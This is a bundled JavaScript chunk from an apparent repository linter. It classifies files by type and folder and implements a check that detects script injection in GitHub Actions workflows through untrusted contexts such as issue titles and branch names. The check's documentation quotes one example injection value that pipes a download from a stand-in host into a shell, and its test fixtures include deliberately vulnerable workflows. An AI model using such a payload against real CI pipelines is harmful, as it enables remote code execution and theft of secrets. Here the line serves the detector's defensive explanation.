"use strict";
exports.id = 371;
exports.ids = [371];
exports.modules = {

/***/ 4238:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  pt: () => (/* binding */ FileType),
  Ko: () => (/* binding */ fileTypes),
  rV: () => (/* binding */ unkempt)
});

;// CONCATENATED MODULE: ./lib/domain/folder-class.js
const Folder = {
    generated: 1 << 10,
    vendored: 1 << 11,
    fixture: 1 << 12,
    test: 1 << 13,
    built: 1 << 29,
    manual: 1 << 30,
};
const Part = {
    source: 1 << 14,
    data: 1 << 15,
    works: 1 << 16,
    trees: 1 << 17,
    resources: 1 << 18,
};
const { generated, vendored, fixture, test, built, manual } = Folder;
const inherited = generated | vendored | fixture | test | built | manual;
const names = [
    ['node_modules bower_components vendor vendored third_party third-party thirdparty .yarn', vendored],
    ['externallib externallibs external_lib external_libs external-lib external-libs', vendored],
    ['testdata test_data test-data testfiles test_files test-files testcases corpus', fixture],
    ['__snapshots__ snapshots golden goldens goldenfile goldenfiles golden_files golden-files', fixture],
    ['generated __generated__ autogen', generated],
    ['.idea .run .junit.run .settings', generated],
    ['__tests__', test],
    ['dist', built],
    ['man man1 man2 man3 man4 man5 man6 man7 man8', manual],
    ['src', Part.source],
    ['data assets dummy', Part.data],
    ['input inputs output outputs expected stub stubs', Part.works],
    ['in out', Part.trees],
    ['resources projects', Part.resources],
];
const byName = new Map(names.flatMap(([list, bits]) => list.split(' ').map((name) => [name, bits])));
byName.set('test data', fixture);
byName.set('test files', fixture);
const telling = /(?:[Ff]ixtures?|[Tt]ests?|\.in|\.out|\.xcodeproj)$|^generated[_-]/;
const patterns = [
    [/^[\w.-]*[Ff]ixtures?$/, fixture],
    [/^(?:.*[._ -])?[Tt]ests?$|^\w*[a-z]Tests?$/, test],
    [/^[\w-]+\.(?:in|out)$/, Part.trees],
    [/\.xcodeproj$|^generated[_-]\w+$/, generated],
];
const nameBits = new Map();
let lastFolder = '';
let lastClass = 0;
function folderClass(path) {
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    if (folder !== lastFolder) {
        lastFolder = folder;
        lastClass = classify(folder);
    }
    return lastClass;
}
function classify(folder) {
    let all = 0;
    let above = 0;
    let parent = 0;
    for (let start = 0, end = folder.indexOf('/'); end >= 0; start = end + 1, end = folder.indexOf('/', start)) {
        const own = bitsOf(folder.slice(start, end));
        if ((all & test) !== 0 && holdsTestData(own, parent, above, all))
            all |= fixture;
        all |= own & inherited;
        if ((all & test) !== 0)
            all |= own & Part.trees;
        above = parent;
        parent = own;
    }
    return all & inherited;
}
function holdsTestData(own, parent, above, all) {
    if ((own & Part.works) !== 0 || (all & Part.trees) !== 0)
        return true;
    if ((parent & test) === 0)
        return false;
    return (own & Part.data) !== 0 || ((own & Part.resources) !== 0 && (above & Part.source) !== 0);
}
function bitsOf(name) {
    let bits = nameBits.get(name);
    if (bits === undefined) {
        bits = byName.get(name) ?? (byName.get(name.toLowerCase()) ?? 0) & (vendored | fixture | generated);
        if (telling.test(name))
            for (const [pattern, one] of patterns)
                if (pattern.test(name))
                    bits |= one;
        nameBits.set(name, bits);
    }
    return bits;
}

;// CONCATENATED MODULE: ./lib/domain/file-type.js

const FileType = {
    json: 1 << 0,
    jsonc: 1 << 1,
    yaml: 1 << 2,
    toml: 1 << 3,
    xml: 1 << 4,
    notebook: 1 << 5,
    editorconfig: 1 << 6,
    markdown: 1 << 7,
    patch: 1 << 8,
    workflow: 1 << 9,
    generated: Folder.generated,
    vendored: Folder.vendored,
    fixture: Folder.fixture,
    test: Folder.test,
};
const unkempt = FileType.generated | FileType.vendored | FileType.fixture;
const data = 1 << 28;
const places = Folder.test | Folder.built | Folder.manual;
const known = ~(data | Folder.built | Folder.manual);
const { json, jsonc, yaml, toml, xml, notebook, editorconfig, markdown, patch, generated: file_type_generated } = FileType;
const byExtension = new Map([
    ['json', json],
    ['jsonc', jsonc],
    ['json5', 0],
    ['code-workspace', jsonc],
    ['webmanifest', json],
    ['geojson', json],
    ['topojson', json],
    ['jsonld', json],
    ['har', json],
    ['sarif', json],
    ['yaml', yaml],
    ['yml', yaml],
    ['toml', toml],
    ['xml', xml],
    ['svg', xml | file_type_generated],
    ['drawio', xml | file_type_generated],
    ['excalidraw', json | file_type_generated],
    ['xsd', xml],
    ['xsl', xml],
    ['xslt', xml],
    ['rng', xml],
    ['wsdl', xml],
    ['plist', xml],
    ['csproj', xml],
    ['vbproj', xml],
    ['fsproj', xml],
    ['vcxproj', xml],
    ['props', xml],
    ['targets', xml],
    ['nuspec', xml],
    ['resx', xml],
    ['xaml', xml],
    ['pom', xml],
    ['ipynb', notebook],
    ['md', markdown],
    ['markdown', markdown],
    ['mdx', markdown],
    ['patch', patch],
    ['diff', patch],
    ['rej', patch],
    ['snap', file_type_generated],
    ['map', json | file_type_generated],
    ['lock', file_type_generated],
    ['sln', file_type_generated],
    ['dotsettings', file_type_generated],
    ['api', file_type_generated],
]);
for (const extension of ('txt text log out stdout stderr output expected actual golden approved received ini cfg conf properties env csv tsv ' +
    'html htm xhtml css scss sass less styl vue svelte hbs handlebars mustache erb haml slim j2 jinja jinja2 tmpl tpl ' +
    'ejs pug twig liquid graphql gql rst adoc po pot srt vtt nfo eml pem crt cer key pub p8 dot tex gitignore hgignore dockerignore npmignore').split(' ')) {
    byExtension.set(extension, data);
}
const asData = json | jsonc | yaml | toml | xml | notebook | markdown | patch | data;
const noData = /(?:^|\/)(?:(?:readme|changelog|contributing)[^/]*|cmakelists\.txt|[^/]+(?:proj|\.props|\.targets))$/i;
const builtExtension = /\.(?:[cm]?js|css|html|map|d\.[cm]?ts)$/;
const manualPage = /\.[1-8]$/;
const file_type_byName = new Map([
    ['.editorconfig', editorconfig],
    ['.clang-format', yaml],
    ['.clang-tidy', yaml],
    ['.gemrc', yaml],
    ['citation.cff', yaml],
    ['.prettierrc', 0],
    ['.babelrc', 0],
    ['.babelrc.json', 0],
    ['babel.config.json', 0],
    ['.jshintrc', jsonc],
    ['.jscsrc', jsonc],
    ['.eslintrc.json', jsonc],
    ['.swcrc', jsonc],
    ['.hintrc', jsonc],
    ['.devcontainer.json', jsonc],
    ['devcontainer.json', jsonc],
    ['tslint.json', jsonc],
    ['api-extractor.json', jsonc],
    ['turbo.json', jsonc],
    ['angular.json', jsonc],
    ['.luarc.json', jsonc],
    ['language-configuration.json', jsonc],
    ['rush.json', jsonc],
    ['renovate.json', jsonc],
    ['.renovaterc', jsonc],
    ['.renovaterc.json', jsonc],
    ['.oxlintrc.json', jsonc],
    ['.markdownlint.json', jsonc],
    ['typedoc.json', jsonc],
    ['.cspell.json', jsonc],
    ['cspell.json', jsonc],
    ['pyrightconfig.json', jsonc],
    ['biome.json', jsonc],
    ['deno.json', jsonc],
    ['bun.lock', jsonc | file_type_generated],
    ['composer.lock', json | file_type_generated],
    ['flake.lock', json | file_type_generated],
    ['package-lock.json', json | file_type_generated],
    ['devcontainer-lock.json', json | file_type_generated],
    ['npm-shrinkwrap.json', json | file_type_generated],
    ['pipfile.lock', json | file_type_generated],
    ['pnpm-lock.yaml', yaml | file_type_generated],
    ['cargo.lock', toml | file_type_generated],
    ['poetry.lock', toml | file_type_generated],
    ['uv.lock', toml | file_type_generated],
    ['pdm.lock', toml | file_type_generated],
    ['pipfile', toml],
    ['go.sum', file_type_generated],
]);
const commentedConfig = /^(?:tsconfig|jsconfig)(?:[.-][^/]*)?\.json$/;
const commentedFolder = /(?:^|\/)\.(?:vscode|devcontainer)\/[^/]*\.json$/;
const workflowPath = /^(?:\.github\/workflows\/[^/]+|(?:.*\/)?action)\.ya?ml$/;
const minified = /[.-]min\.(?:js|mjs|cjs|css)$/;
function fileTypes(path) {
    const place = folderClass(path);
    const types = nameTypes(path) | place;
    return ((place & places) === 0 ? types : inPlace(path, types)) & known;
}
function inPlace(path, types) {
    const worked = (types & FileType.test) !== 0 && (types & asData) !== 0 && !noData.test(path) ? FileType.fixture : 0;
    const built = (types & Folder.built) !== 0 && builtExtension.test(path) ? file_type_generated : 0;
    const page = (types & Folder.manual) !== 0 && manualPage.test(path) ? file_type_generated : 0;
    return types | worked | built | page;
}
function nameTypes(path) {
    const name = path.slice(path.lastIndexOf('/') + 1).toLowerCase();
    const named = file_type_byName.get(name);
    if (named !== undefined)
        return named;
    const types = byExtension.get(name.slice(name.lastIndexOf('.') + 1)) ?? 0;
    if (types === json && (commentedConfig.test(name) || commentedFolder.test(path)))
        return jsonc;
    if (types === yaml && workflowPath.test(path))
        return yaml | FileType.workflow;
    if ((types & known) === 0 && minified.test(name))
        return file_type_generated;
    return types;
}


/***/ }),

/***/ 4674:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   XD: () => (/* binding */ fileCheck),
/* harmony export */   rk: () => (/* binding */ changeCheck),
/* harmony export */   vy: () => (/* binding */ treeCheck)
/* harmony export */ });
function fileCheck(check) {
    return check;
}
function treeCheck(check) {
    return check;
}
function changeCheck(check) {
    return check;
}


/***/ }),

/***/ 371:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  workflowScriptInjection: () => (/* binding */ workflowScriptInjection)
});

// EXTERNAL MODULE: ./lib/domain/file-type.js + 1 modules
var file_type = __webpack_require__(4238);
// EXTERNAL MODULE: ./lib/modules/checks/check.js
var check = __webpack_require__(4674);
;// CONCATENATED MODULE: ./lib/modules/checks/workflow/expression.js
function resultContexts(expression) {
    const tokens = tokenize(expression);
    const reader = { tokens, at: 0 };
    const found = tokens === undefined ? undefined : readOr(reader);
    if (found !== undefined && reader.at === tokens?.length)
        return found;
    return (expression.match(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g) ?? []).map((path) => path.toLowerCase());
}
const token = /\s*('(?:[^']|'')*'|[A-Za-z_][\w-]*|[\d.+-][\w.+-]*|&&|\|\||[=!<>]=|[()[\],.!<>*])/y;
function tokenize(expression) {
    const tokens = [];
    const text = expression.trimEnd();
    for (token.lastIndex = 0; token.lastIndex < text.length;) {
        const match = token.exec(text);
        if (match === null)
            return undefined;
        const [, word] = match;
        if (/^\.[^\d]/.test(word)) {
            tokens.push('.');
            token.lastIndex -= word.length - 1;
        }
        else
            tokens.push(word);
    }
    return tokens;
}
function take(reader, ...wanted) {
    const next = reader.tokens?.[reader.at];
    if (next === undefined || !wanted.includes(next))
        return undefined;
    reader.at++;
    return next;
}
function readOr(reader) {
    let found = readAnd(reader);
    while (found !== undefined && take(reader, '||')) {
        const right = readAnd(reader);
        found = right === undefined ? undefined : [...found, ...right];
    }
    return found;
}
function readAnd(reader) {
    let found = readComparison(reader);
    while (found !== undefined && take(reader, '&&'))
        found = readComparison(reader);
    return found;
}
function readComparison(reader) {
    let found = readUnary(reader);
    while (found !== undefined && take(reader, '==', '!=', '<', '<=', '>', '>=')) {
        found = readUnary(reader) === undefined ? undefined : [];
    }
    return found;
}
function readUnary(reader) {
    if (!take(reader, '!'))
        return readPath(reader);
    return readUnary(reader) === undefined ? undefined : [];
}
function readPath(reader) {
    const first = reader.tokens?.[reader.at++];
    if (first === undefined)
        return undefined;
    if (first === '(')
        return readDereferences(reader, readGroup(reader));
    if (/^['\d+.-]/.test(first))
        return [];
    if (!/^[A-Za-z_]/.test(first))
        return undefined;
    if (take(reader, '('))
        return readDereferences(reader, readCall(reader, first.toLowerCase()));
    return readDereferences(reader, /^(?:true|false|null|infinity|nan)$/i.test(first) ? [] : [first.toLowerCase()]);
}
function readGroup(reader) {
    const inner = readOr(reader);
    return take(reader, ')') ? inner : undefined;
}
function readCall(reader, name) {
    const found = [];
    while (!take(reader, ')')) {
        const argument = readOr(reader);
        if (argument === undefined)
            return undefined;
        found.push(...argument);
        if (!take(reader, ',') && reader.tokens?.[reader.at] !== ')')
            return undefined;
    }
    return /^(?:contains|startswith|endswith|hashfiles|always|success|failure|cancelled)$/.test(name) ? [] : found;
}
function readDereferences(reader, paths) {
    let found = paths;
    while (found !== undefined) {
        let name;
        if (take(reader, '.'))
            name = reader.tokens?.[reader.at++];
        else if (take(reader, '['))
            name = readIndex(reader);
        else
            return found;
        if (name === undefined)
            return undefined;
        const part = name.toLowerCase();
        found = found.map((path) => `${path}.${part}`);
    }
    return undefined;
}
function readIndex(reader) {
    const literal = reader.tokens?.[reader.at]?.match(/^'([\w-]+)'$/)?.[1];
    if (literal !== undefined)
        reader.at++;
    else if (!take(reader, '*') && readOr(reader) === undefined)
        return undefined;
    return take(reader, ']') ? (literal ?? '*') : undefined;
}

// EXTERNAL MODULE: ./lib/modules/checks/workflow/parse.js
var parse = __webpack_require__(8081);
;// CONCATENATED MODULE: ./lib/modules/checks/workflow/untrusted.js
const person = '(?:author|committer)\\.(?:name|email)';
const commit = `(?:message|${person})`;
const texts = [
    '(?:issue|discussion|pull_request)\\.(?:title|body)',
    '(?:comment|review|review_comment|discussion_comment)\\.body',
    'pull_request\\.head\\.(?:ref|label|repo\\.(?:default_branch|description|homepage))',
    'pages\\.[^.]+\\.page_name',
    `(?:commits\\.[^.]+|head_commit)\\.${commit}`,
    'workflow_run\\.(?:head_branch|display_title|head_repository\\.description|pull_requests\\.[^.]+\\.head\\.ref)',
    `workflow_run\\.head_commit\\.${commit}`,
].join('|');
const untrusted = new RegExp(`^github\\.(?:head_ref|event\\.(?:${texts}))$`);
const whole = /^github(?:\.event(?:\.(?:issue|discussion|pull_request|comment|review|commits|head_commit|workflow_run)(?:\.\*)?)?)?$/;
function isUntrusted(context) {
    return untrusted.test(context) || whole.test(context);
}
function isOfPullRequest(context) {
    return context === 'github.head_ref' || context.startsWith('github.event.pull_request.');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-script-injection.js





const workflowScriptInjection = (0,check/* fileCheck */.XD)({
    scope: 'file',
    id: 'workflow-script-injection',
    summary: 'A script into which a stranger can write commands',
    level: 'error',
    docs: `GitHub puts the value of \`\${{ … }}\` into a script before the shell reads it. Where the value is the title of an
issue or the name of a branch, whoever chooses it writes commands into the script: \`"; curl evil.example | sh; "\`.

Looked at are \`run\` and the \`script\` of \`actions/github-script\`, and in them the contexts that anybody can fill: titles,
bodies, messages, names and e-mail addresses of authors, head branches; also by way of \`env\`. Expressions that only
compare or test such a value are left alone. The level is a warning where the value exists in pull requests only and the
run has neither secrets nor a token that may write. Inputs of a composite action, and text inputs of a reusable workflow,
are a note, one for each script: it depends on who calls. Inputs of \`workflow_dispatch\` are left alone, only members can give them.

Hand the value over as a variable, and quote it: \`env: { TITLE: "\${{ github.event.issue.title }}" }\`, then \`"$TITLE"\`
in the shell or \`process.env.TITLE\` in JavaScript.`,
    source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'a title in a shell, a branch in JavaScript, a message by way of a variable',
            files: {
                '.github/workflows/triage.yml': `on: [issues, pull_request_target, push]
env:
  MESSAGE: \${{ github.event.head_commit.message }}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New:"
          echo "\${{ github.event.issue.title || 'none' }}"
      - uses: actions/github-script@v7
        with:
          script: console.log('\${{ github.head_ref }}')
      - run: echo "\${{ env.MESSAGE }}" "\${{ toJSON(github.event.issue) }}"
`,
            },
            findings: [10, 13, 14, 14].map((line) => `.github/workflows/triage.yml:${line}`),
        },
        {
            title: 'the inputs of a composite action',
            files: {
                'greet/action.yml': `inputs:
  name:
    description: Who
runs:
  using: composite
  steps:
    - run: echo "\${{ inputs.name }}"
      shell: bash
`,
            },
            findings: ['greet/action.yml:7'],
        },
        {
            title: 'values as variables, comparisons, numbers, and inputs that members give',
            files: {
                '.github/workflows/triage.yml': `on:
  issues:
  workflow_dispatch:
    inputs:
      name: { type: string }
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE" "\${{ contains(github.event.issue.title, 'bug') }}" "\${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
      - run: echo "\${{ github.event.issue.title == 'x' && 'yes' || 'no' }}" "\${{ inputs.name }}"
`,
            },
            findings: [],
        },
    ],
    run(file, report) {
        return (0,parse/* judgeWorkflow */.xQ)(file, report, judge);
    },
});
function* judge(workflow, text) {
    for (const job of workflow.jobs) {
        for (const step of job.steps) {
            for (const script of scripts(step)) {
                let noted = false;
                for (const { expression, start, end } of (0,parse/* embedded */.F9)(text, script)) {
                    const contexts = resultContexts(expression).flatMap((context) => [
                        context,
                        ...ofVariable(context, [step, job, workflow], text),
                    ]);
                    const remark = judgeContexts(contexts, workflow);
                    if (remark === undefined || (remark.level === 'note' && noted))
                        continue;
                    noted ||= remark.level === 'note';
                    yield { start, end, ...remark };
                }
            }
        }
    }
}
function scripts({ uses, run, with: inputs }) {
    const script = /^actions\/github-script@/i.test(uses?.value ?? '') ? inputs.get('script') : undefined;
    return [run, script].filter((scalar) => scalar !== undefined);
}
function ofVariable(context, scopes, text) {
    const name = context.match(/^env\.(.+)$/)?.[1];
    if (name === undefined)
        return [];
    const value = scopes.map(({ env }) => env.get(name)).find((scalar) => scalar !== undefined);
    return value === undefined ? [] : [...(0,parse/* embedded */.F9)(text, value)].flatMap(({ expression }) => resultContexts(expression));
}
function judgeContexts(contexts, workflow) {
    const found = contexts.find(isUntrusted);
    if (found !== undefined) {
        const privileged = ['pull_request_target', 'workflow_call'].some((event) => workflow.triggers.has(event));
        const harmless = workflow.kind === 'workflow' && isOfPullRequest(found) && !privileged;
        const message = `whoever chooses \`${found}\` can write commands into this script; hand it over in \`env\``;
        return { message, level: harmless ? 'warning' : 'error' };
    }
    const input = contexts.find((context) => context.startsWith('inputs.') && workflow.textInputs.has(context.slice(7)));
    if (input === undefined)
        return undefined;
    return {
        message: `whoever fills \`${input}\` can write commands into this script; hand it over in \`env\``,
        level: 'note',
    };
}


/***/ }),

/***/ 8081:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F9: () => (/* binding */ embedded),
/* harmony export */   hM: () => (/* binding */ parseWorkflow),
/* harmony export */   xQ: () => (/* binding */ judgeWorkflow)
/* harmony export */ });
let last;
async function parseWorkflow(text) {
    if (last?.text !== text)
        last = { text, parsed: parse(text) };
    return last.parsed;
}
async function parse(text) {
    if (!/^\s*["']?(?:jobs|runs)["']?\s*:/m.test(text))
        return undefined;
    const { parseYamlWorkflow } = await Promise.all(/* import() */[__webpack_require__.e(8815), __webpack_require__.e(5917)]).then(__webpack_require__.bind(__webpack_require__, 5917));
    return parseYamlWorkflow(text);
}
async function judgeWorkflow(file, report, judge) {
    const text = file.text();
    const workflow = await parseWorkflow(text);
    if (workflow === undefined)
        return;
    const exact = Buffer.byteLength(text) === file.length;
    const seen = new Set();
    for (const { start, end, message, level, rule } of judge(workflow, text)) {
        const identity = `${start}:${end}:${rule}`;
        if (seen.has(identity))
            continue;
        seen.add(identity);
        const offset = Buffer.byteLength(text.slice(0, start));
        const at = exact ? { offset, length: Buffer.byteLength(text.slice(start, end)) } : undefined;
        report({ message, at, level, rule });
    }
}
function* embedded(text, scalar) {
    for (const match of text.slice(scalar.start, scalar.end).matchAll(/\$\{\{((?:'(?:[^']|'')*'|(?!\}\}).)*)\}\}/gs)) {
        const start = scalar.start + match.index;
        yield { expression: match[1], start, end: start + match[0].length };
    }
}


/***/ })

};
;